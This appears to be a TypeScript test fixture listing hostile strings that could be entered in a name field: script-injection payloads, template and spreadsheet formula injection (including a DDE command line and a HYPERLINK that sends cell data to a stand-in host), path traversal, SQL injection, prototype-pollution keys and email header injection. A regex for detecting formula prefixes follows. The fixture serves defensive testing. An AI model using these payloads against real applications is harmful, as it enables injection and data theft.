/**
 * What somebody may write where a name is asked, to have it run, or taken for something else. Each that would run
 * in a page sets `__pwned` there.
 */
export const HOSTILE_TEXTS = [
  '<img src=x onerror="window.__pwned=1">',
  '<svg onload=window.__pwned=1>',
  '"><script>window.__pwned=1</script>',
  "'-window.__pwned=1-'",
  '</style><style>*{display:none}</style>',
  '</title><iframe srcdoc="<script>parent.__pwned=1</script>">',
  '<a href="javascript:window.__pwned=1">klik</a>',
  'javascript:window.__pwned=1',
  'data:text/html,<script>opener.__pwned=1</script>',
  '[klik](javascript:window.__pwned=1) ![x](https://elders.invalid/x.png)',
  '<link rel=stylesheet href=https://elders.invalid/x.css>',
  '@import url(https://elders.invalid/y.css);',
  '{{constructor.constructor("window.__pwned=1")()}} $t(shell.app) {{name}}',
  '${window.__pwned=1} #{1+1} <%= 1 %>',
  '=HYPERLINK("https://elders.invalid/?"&A1;"klik")',
  "=cmd|' /C calc'!A0",
  '@SUM(1+1)*cmd',
  '\t-2+3',
  '\uff1d1+1',
  '\u200b=1+1',
  'omgekeerd \u202egnp.exe \u2066 en \u2067verder',
  'nul \u0000 en \u0007 bel \u001b[31m rood',
  '__proto__',
  'constructor',
  'hasOwnProperty',
  '../../etc/passwd',
  'C:\\CON.txt',
  "Robert'); DROP TABLE plans;--",
  ']]><!ENTITY a "b">&a;&lt;b&gt;',
  'half \ud83d teken',
  'a\r\nBcc: elders@elders.invalid\r\n\r\nx',
] as const;

/** The sign of a spreadsheet's formula, wherever a program may see one. */
export const FORMULA = /^[\s\p{Cc}\p{Cf}]*[=+\-@\uff1d\uff0b\uff0d\uff20]/u;
